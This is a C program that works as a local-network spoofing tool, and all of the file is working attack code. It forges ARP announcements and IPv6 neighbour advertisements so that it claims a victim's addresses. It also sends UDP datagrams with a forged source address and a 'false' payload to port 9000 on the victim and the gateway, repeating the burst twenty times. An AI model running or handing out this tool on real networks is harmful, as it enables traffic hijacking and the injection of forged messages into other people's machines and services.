// spoof LINK VICTIM-MAC VICTIM-IP VICTIM-IP6 GATEWAY-MAC FROM-IP: claims to be the victim, by ARP (RFC 826) and neighbour
// advertisements (RFC 4861), and sends the victim a datagram at port 9000 as if it came from FROM-IP. All of it twenty times.
#include <arpa/inet.h>
#include <net/if.h>
#include <netpacket/packet.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

static int out;
static struct sockaddr_ll link_address = {.sll_family = AF_PACKET, .sll_halen = 6};
static uint8_t own[6], all[6] = {255, 255, 255, 255, 255, 255};

static uint16_t sum(uint32_t sum, const uint8_t *bytes, size_t count) {
    for (size_t n = 0; n < count; n += 2) sum += (uint32_t)bytes[n] << 8 | (n + 1 < count ? bytes[n + 1] : 0);
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return htons((uint16_t)~sum);
}

static void frame(const uint8_t *to, uint16_t kind, const uint8_t *body, size_t count) {
    uint8_t bytes[1514];
    memcpy(bytes, to, 6);
    memcpy(bytes + 6, own, 6);
    bytes[12] = (uint8_t)(kind >> 8), bytes[13] = (uint8_t)kind;
    memcpy(bytes + 14, body, count);
    if (sendto(out, bytes, 14 + count, 0, (struct sockaddr *)&link_address, sizeof link_address) < 0) perror("sendto");
}

static void claim_by_arp(const char *victim, uint8_t operation) {
    uint8_t body[28] = {0, 1, 8, 0, 6, 4, 0, operation};
    memcpy(body + 8, own, 6);
    inet_pton(AF_INET, victim, body + 14);
    memcpy(body + 18, all, 6);
    inet_pton(AF_INET, victim, body + 24);
    frame(all, 0x0806, body, sizeof body);
}

static void claim_by_advertisement(const char *victim) {
    uint8_t to[6] = {0x33, 0x33, 0, 0, 0, 1};
    uint8_t body[72] = {0x60, 0, 0, 0, 0, 32, 58, 255};
    inet_pton(AF_INET6, victim, body + 8);
    inet_pton(AF_INET6, "ff02::1", body + 24);
    uint8_t *message = body + 40;
    message[0] = 136, message[4] = 0x20;  // an advertisement that overrides
    inet_pton(AF_INET6, victim, message + 8);
    message[24] = 2, message[25] = 1;
    memcpy(message + 26, own, 6);
    uint8_t pseudo[72] = {0};
    memcpy(pseudo, body + 8, 32);
    pseudo[35] = 32, pseudo[39] = 58;
    memcpy(pseudo + 40, message, 32);
    uint16_t check = sum(0, pseudo, sizeof pseudo);
    memcpy(message + 2, &check, 2);
    frame(to, 0x86dd, body, sizeof body);
}

static void datagram(const uint8_t *to, const char *from, const char *victim) {
    uint8_t body[34] = {0x45, 0, 0, 34, 0, 1, 0, 0, 64, 17};
    inet_pton(AF_INET, from, body + 12);
    inet_pton(AF_INET, victim, body + 16);
    uint16_t check = sum(0, body, 20);
    memcpy(body + 10, &check, 2);
    uint8_t header[8] = {0x23, 0x28, 0x23, 0x28, 0, 14};  // 9000 to 9000, without a sum
    memcpy(body + 20, header, 8);
    memcpy(body + 28, "false\n", 6);
    frame(to, 0x0800, body, sizeof body);
}

static int read_mac(const char *text, uint8_t *mac) {
    return sscanf(text, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", mac, mac + 1, mac + 2, mac + 3, mac + 4, mac + 5) == 6;
}

int main(int count, char **words) {
    uint8_t victim[6], gateway[6];
    if (count != 7 || !read_mac(words[2], victim) || !read_mac(words[5], gateway)) return 64;
    struct ifreq request = {0};
    strncpy(request.ifr_name, words[1], IFNAMSIZ - 1);
    out = socket(AF_PACKET, SOCK_RAW, 0);
    if (out < 0 || ioctl(out, SIOCGIFHWADDR, &request) < 0) return perror("socket"), 1;
    memcpy(own, request.ifr_hwaddr.sa_data, 6);
    link_address.sll_ifindex = (int)if_nametoindex(words[1]);
    for (int n = 0; n < 20; n++) {
        claim_by_arp(words[3], 1);
        claim_by_arp(words[3], 2);
        claim_by_advertisement(words[4]);
        datagram(gateway, words[6], words[3]);
        datagram(victim, words[6], words[3]);
        usleep(20000);
    }
    return 0;
}
